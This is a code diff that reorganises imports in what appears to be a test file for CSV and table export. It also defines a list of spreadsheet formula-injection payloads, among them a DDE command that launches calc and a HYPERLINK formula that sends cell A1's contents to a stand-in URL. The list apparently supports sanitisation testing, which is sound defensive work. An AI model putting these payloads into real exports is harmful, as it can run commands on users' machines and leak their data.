@@ -20,9 +20,11 @@ from xinzhi.content.table_file import unguarded
 from xinzhi.content.yaml_file import Text
 from xinzhi.dashboard.state import read_upload
 from xinzhi.errors import OutputError
+from xinzhi.formats.csv_text import csv_bytes
+from xinzhi.formats.writing import export_table
+from xinzhi.output import write
 from xinzhi.project import Project
-from xinzhi.show.csv_text import csv_bytes
-from xinzhi.show.export import export_table, run_bytes, write
+from xinzhi.show.export import run_bytes
 from xinzhi.simulate import Run
 
 HOSTILE = ("=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x"&A1,"点此")', "+1", "-2+3", "@SUM(1)", "\t=1", "＝1", "#N/A",
